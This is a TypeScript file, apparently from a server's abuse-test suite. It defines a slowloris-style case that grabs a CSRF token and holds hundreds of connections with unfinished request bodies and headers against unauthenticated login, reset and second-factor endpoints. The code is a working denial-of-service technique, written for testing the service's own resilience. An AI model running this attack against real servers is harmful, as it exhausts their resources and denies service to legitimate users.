import type { AbuseCase } from '../abuse-case.ts'
import { megabytes, holdConnections, write } from './connections.ts'

const unfinishedOf = (size: number) => ({
  ...{ size, text: Buffer.from(`{"email":"${'x'.repeat(size - 20)}`) },
})
/**
 * Far beyond what such a call takes, and just what it takes. One for all: what the abuser works is
 * taken from the server on the same machine.
 */
const unfinished = { large: unfinishedOf(1_000_000), small: unfinishedOf(16_384) }
const publicCalls = [
  '/api/auth/login',
  '/api/auth/reset',
  '/api/auth/second-factor',
  '/api/auth/logout',
]

/**
 * One address begins bodies on the calls that need no account, and ends none; some heads are never
 * ended either.
 */
export const unfinishedRequests: AbuseCase = {
  number: 2,
  name: 'unfinished requests of one address',
  async run({ url }, signal) {
    const headers = await csrfHeaders(url)
    let begun = 0
    const bodies = holdConnections(url, 1_000, signal, async (socket) => {
      const call = publicCalls[Math.floor(Math.random() * publicCalls.length)] ?? ''
      const { size, text } = unfinished[begun++ % 2 === 0 ? 'large' : 'small']
      const head =
        `POST ${call} HTTP/1.1\r\nHost: x\r\n${headers}Content-Type: ` +
        `application/json\r\nContent-Length: ${size}\r\n\r\n`
      await write(socket, head)
      await write(socket, text)
    })
    const heads = holdConnections(url, 500, signal, (socket) =>
      write(socket, `GET /api/site HTTP/1.1\r\nX-Long: ${'x'.repeat(8_000)}`),
    )
    return `bodies: ${megabytes(await bodies)}; heads: ${megabytes(await heads)}`
  },
}

/** What anybody gets who asks: without it the calls are refused before their body. */
async function csrfHeaders(url: string): Promise<string> {
  const reply = await fetch(`${url}/api/sanctum/csrf-cookie`)
  const token = /XSRF-TOKEN=([^;]+)/.exec(reply.headers.getSetCookie().join('\n'))?.[1] ?? ''
  return `Cookie: XSRF-TOKEN=${token}\r\nX-XSRF-TOKEN: ${decodeURIComponent(token)}\r\n`
}
